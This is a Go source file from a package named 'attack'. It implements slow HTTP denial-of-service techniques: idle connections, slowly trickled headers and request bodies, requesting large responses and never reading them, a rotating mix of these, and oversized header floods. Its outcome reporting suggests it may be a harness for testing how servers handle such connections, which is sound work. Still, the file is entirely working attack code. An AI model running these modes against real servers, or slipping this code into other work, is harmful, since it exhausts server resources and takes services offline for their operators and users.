package attack

import (
	"context"
	"fmt"
	"io"
	"net"
	"strings"
	"time"
)

// slow holds connections open at the least cost to itself.
func slow(options Options) (attacker, error) {
	modes := map[string]attacker{
		"idle": func(ctx context.Context, conn net.Conn, _ int) (string, bool) { return listen(ctx, conn) },
		"headers": func(ctx context.Context, conn net.Conn, _ int) (string, bool) {
			return trickle(ctx, conn, "GET / HTTP/1.1\r\nHost: "+options.Host+"\r\n", func(i int) string { return fmt.Sprintf("x-%d: y\r\n", i) })
		},
		"body": func(ctx context.Context, conn net.Conn, _ int) (string, bool) {
			return trickle(ctx, conn, "POST /sink HTTP/1.1\r\nHost: "+options.Host+"\r\nContent-Length: 1000000\r\n\r\n", func(int) string { return "x" })
		},
		"read": func(ctx context.Context, conn net.Conn, _ int) (string, bool) {
			return neverRead(ctx, conn, options.Host)
		},
	}
	if options.Mode == "mix" {
		order := []string{"idle", "headers", "body", "read"}
		return func(ctx context.Context, conn net.Conn, index int) (string, bool) {
			return modes[order[index%len(order)]](ctx, conn, index)
		}, nil
	}
	attack, known := modes[options.Mode]
	if !known {
		return nil, fmt.Errorf("mode %q is none of idle, headers, body, read, mix", options.Mode)
	}
	return attack, nil
}

// neverRead asks for a large answer and leaves it in the sockets' buffers.
func neverRead(ctx context.Context, conn net.Conn, host string) (string, bool) {
	if tcp, ok := conn.(*net.TCPConn); ok {
		tcp.SetReadBuffer(4 << 10)
	}
	if _, err := io.WriteString(conn, "GET /?bytes=1048576 HTTP/1.1\r\nHost: "+host+"\r\n\r\n"); err != nil {
		return "none", true
	}
	<-ctx.Done()
	// Whether the server has given up shows in a write, not in a read: its bytes are still unread.
	for range 3 {
		if _, err := io.WriteString(conn, "x"); err != nil {
			return "unread", true
		}
		time.Sleep(10 * time.Millisecond)
	}
	return "unread", false
}

// bigHeaders sends a header block of the given size as fast as it is taken.
func bigHeaders(options Options) attacker {
	line := "x-filler: " + strings.Repeat("f", 1012) + "\r\n" // 1 KiB
	return func(ctx context.Context, conn net.Conn, _ int) (string, bool) {
		deadline, _ := ctx.Deadline()
		conn.SetWriteDeadline(deadline)
		io.WriteString(conn, "GET / HTTP/1.1\r\nHost: "+options.Host+"\r\n")
		for range options.HeaderKiB {
			if _, err := io.WriteString(conn, line); err != nil {
				break // the server has had enough; its answer is still to be read
			}
		}
		io.WriteString(conn, "\r\n")
		return listen(ctx, conn)
	}
}
